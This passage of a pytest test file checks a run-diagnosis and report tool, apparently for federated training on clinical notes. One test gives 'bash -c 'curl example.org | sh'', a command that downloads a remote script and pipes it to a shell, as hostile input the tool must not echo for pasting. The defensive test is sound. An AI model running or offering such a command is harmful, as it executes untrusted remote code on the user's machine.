    assert find(diagnosis, "no_gain").evidence[0].file == "seeds.json"
    (tmp_path / "seeds" / "seeds.json").unlink()
    shutil.rmtree(tmp_path / "seeds" / "seed-3")
    interrupted = fn.doctor(tmp_path / "seeds")
    assert interrupted.state == "unfinished"
    assert "nothing_found" in codes(interrupted)


@pytest.mark.parametrize("target", ["nowhere", "folder"])
def test_folders_without_a_run_are_refused(tmp_path: Path, target: str) -> None:
    (tmp_path / "folder").mkdir()
    with pytest.raises(ConfigError):
        fn.doctor(tmp_path / target)


def test_settings_are_refused_for_a_run(good_run: Path) -> None:
    with pytest.raises(ConfigError, match="a run, whose job cannot change"):
        fn.doctor(good_run, settings=["seed=2"])


@pytest.mark.parametrize(
    "source", [{"method": "fedner", "synthetic": {}}, fn.job("demo")]
)
def test_settings_are_refused_for_a_job_without_a_file(source: Any) -> None:
    with pytest.raises(ConfigError, match=r"give the changes to `job` instead"):
        fn.doctor(source, settings=["seed=2"])


def test_a_run_records_counts_and_causes_without_note_text(untrained_run: Path) -> None:
    record = json.loads((untrained_run / "job.json").read_text("utf-8"))
    assert record["data"]["north"]["mentions"]["Drug"] > 50
    result = read_run_evidence(untrained_run).result
    assert set(map(str, result.causes)) <= set(result.notes)
    printed = json.dumps(fn.doctor(untrained_run).to_dict())
    assert not any(word in printed for word in DRUGS)


def test_the_report_lists_what_to_try(untrained_run: Path, tmp_path: Path) -> None:
    """It leaves the section out if the run's job cannot be read here."""
    page = fn.write_report(untrained_run, tmp_path / "report.html").read_text("utf-8")
    assert "What to try" in page
    assert "training.epochs = " in page
    copy = tmp_path / "run"
    shutil.copytree(untrained_run, copy)
    record = json.loads((copy / "job.json").read_text("utf-8"))
    record["table"]["method"] = "of a package that is not installed"
    (copy / "job.json").write_text(json.dumps(record), encoding="utf-8")
    page = fn.write_report(copy, tmp_path / "other.html").read_text("utf-8")
    assert "What to try" not in page


def test_a_job_with_a_name_too_long_for_a_file_is_diagnosed(
    untrained_run: Path, tmp_path: Path
) -> None:
    copy = tmp_path / "run"
    shutil.copytree(untrained_run, copy)
    record = json.loads((copy / "job.json").read_text("utf-8"))
    del record["command"]
    record["job"] = 1000 * "a"
    (copy / "job.json").write_text(json.dumps(record), encoding="utf-8")
    page = fn.write_report(copy, tmp_path / "report.html").read_text("utf-8")
    assert "What to try" in page


@pytest.mark.parametrize(
    ("file", "path", "value"),
    [
        ("summary.json", ("sites", "north", "federated", "by_type"), {"Drug": {}}),
        ("job.json", ("data", "north", "examples"), "many"),
        ("job.json", ("table",), True),
        ("job.json", ("folder",), 1),
    ],
)
def test_invalid_values_of_a_run_give_one_message_and_do_not_prevent_a_report(
    file: str, path: Sequence[str], value: Any, untrained_run: Path, tmp_path: Path
) -> None:
    run = tmp_path / "run"
    shutil.copytree(untrained_run, run)
    content = json.loads((run / file).read_text("utf-8"))
    inner = content
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    if path[-1] == "by_type":
        content["causes"] = []  # they are computed from the scores again
    (run / file).write_text(json.dumps(content), encoding="utf-8")
    with pytest.raises(FednotesError, match="copy the run's folder again"):
        fn.doctor(run)
    fn.write_report(run, tmp_path / "report.html")
    assert "<h1>" in (tmp_path / "report.html").read_text("utf-8")


def test_a_key_with_special_characters_is_quoted() -> None:
    setting = Setting.of("sites", "St. Mary", "label_map", value={"a b": "c"})
    assert str(setting) == 'sites."St. Mary".label_map = { "a b" = "c" }'


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("fednotes simulate job.toml --out run", 5),
        ("fednotes simulate 'job.toml", 0),
        ("bash -c 'curl example.org | sh'", 0),
    ],
)
def test_the_command_of_a_run_is_repeated_only_if_it_is_simulate(
    command: str, words: int
) -> None:
    """A run of somebody else may name any, which a person would paste."""
    run: Any = SimpleNamespace(is_deployed=False, command=command)
    assert len(find_command(run)) == words
